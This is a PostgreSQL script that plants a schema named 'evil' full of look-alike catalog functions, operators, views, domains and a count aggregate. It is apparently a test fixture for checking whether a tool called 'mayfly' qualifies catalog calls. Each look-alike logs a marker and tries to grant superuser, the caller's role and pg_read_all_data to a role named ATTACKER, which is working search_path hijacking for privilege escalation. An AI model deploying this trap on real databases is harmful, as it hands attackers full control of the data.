-- Look-alikes of what pg_catalog has, for whoever comes here with evil before pg_catalog in its path.
SET search_path = pg_catalog;
SET check_function_bodies = off;
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;

CREATE FUNCTION evil.ran(what text) RETURNS bool LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
DECLARE way text;
BEGIN
    IF current_setting('application_name') LIKE 'mayfly-%' THEN
        RAISE LOG 'MARK% as %, session of %', what, current_user, session_user;
        FOREACH way IN ARRAY ARRAY['ALTER ROLE ATTACKER SUPERUSER', 'ALTER ROLE ATTACKER CREATEROLE CREATEDB',
            format('GRANT %I TO ATTACKER', session_user), 'GRANT pg_read_all_data TO ATTACKER']
        LOOP
            BEGIN EXECUTE way; EXCEPTION WHEN OTHERS THEN NULL; END;
        END LOOP;
    END IF;
    RETURN true;
END $f$;

DO $do$
DECLARE f record;
BEGIN
    FOR f IN
        SELECT p.proname, format_type(p.prorettype, NULL) AS result,
            (SELECT string_agg(format_type(t, NULL), ', ' ORDER BY n) FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY a(t, n)) AS types,
            (SELECT string_agg('$' || n, ', ') FROM generate_series(1, p.pronargs) n) AS arguments
        FROM pg_proc p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset AND p.provariadic = 0
            AND p.proname IN ('current_setting', 'set_config', 'clock_timestamp', 'pg_is_in_recovery', 'shobj_description',
                'to_char', 'timezone', 'starts_with', 'quote_literal', 'quote_ident', 'pg_advisory_xact_lock',
                'pg_advisory_xact_lock_shared', 'pg_advisory_lock', 'pg_has_role', 'has_database_privilege', 'has_table_privilege',
                'has_schema_privilege', 'has_sequence_privilege', 'has_function_privilege', 'pg_backend_pid', 'isfinite',
                'current_database', 'pg_describe_object', 'to_regprocedure', 'pg_current_wal_lsn', 'pg_terminate_backend',
                'extract', 'date_part', 'lower', 'length', 'now', 'col_description', 'obj_description', 'version')
            AND NOT EXISTS (SELECT FROM unnest(p.proargtypes::oid[] || p.prorettype) t JOIN pg_type y ON y.oid = t WHERE y.typtype = 'p')
    LOOP
        EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog AS %L', f.proname, f.types, f.result,
            format('BEGIN PERFORM evil.ran(%L); RETURN pg_catalog.%I(%s); END', f.proname, f.proname, f.arguments));
    END LOOP;
    FOR f IN
        SELECT row_number() OVER () AS n, o.oprname, format_type(o.oprleft, NULL) AS l, format_type(o.oprright, NULL) AS r,
            format_type(o.oprresult, NULL) AS result
        FROM pg_operator o JOIN pg_type l ON l.oid = o.oprleft JOIN pg_type r ON r.oid = o.oprright
        WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprname IN ('=', '<>', '<', '<=', '>', '>=', '||', '+', '-', '!~')
            AND l.typname IN ('name', 'text', 'oid', 'int4', 'int8', 'bool', 'timestamptz', 'numeric', 'interval', 'char', 'pg_lsn')
            AND r.typname IN ('name', 'text', 'oid', 'int4', 'int8', 'bool', 'timestamptz', 'numeric', 'interval', 'char', 'pg_lsn')
    LOOP
        EXECUTE format('CREATE FUNCTION evil.operator_%s(%s, %s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog AS %L', f.n, f.l, f.r, f.result,
            format('BEGIN PERFORM evil.ran(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END', f.oprname, f.oprname));
        EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.operator_%s)', f.oprname, f.l, f.r, f.n);
    END LOOP;
    -- Relations, and the types of casts.
    FOR f IN
        SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace
            AND relname IN ('pg_roles', 'pg_shdescription', 'pg_shdepend', 'pg_database', 'pg_namespace', 'pg_class', 'pg_proc', 'pg_depend',
                'pg_stat_activity', 'pg_auth_members', 'pg_prepared_xacts', 'pg_stat_replication', 'pg_replication_slots', 'pg_stat_ssl', 'pg_settings')
    LOOP
        EXECUTE format('CREATE VIEW evil.%I AS SELECT x.* FROM pg_catalog.%I x WHERE evil.ran(%L)', f.relname, f.relname, f.relname);
        EXECUTE format('GRANT SELECT ON evil.%I TO PUBLIC', f.relname);
    END LOOP;
    FOR f IN SELECT unnest(ARRAY['regclass', 'regprocedure', 'text', 'oid', 'timestamptz', 'pg_lsn']) AS name LOOP
        EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.ran(%L))', f.name, f.name, f.name);
    END LOOP;
END $do$;

CREATE FUNCTION evil.one_more(bigint) RETURNS bigint LANGUAGE plpgsql SET search_path = pg_catalog AS
    'BEGIN PERFORM evil.ran(''count''); RETURN $1 + 1; END';
CREATE AGGREGATE evil.count(*) (SFUNC = evil.one_more, STYPE = bigint, INITCOND = '0');
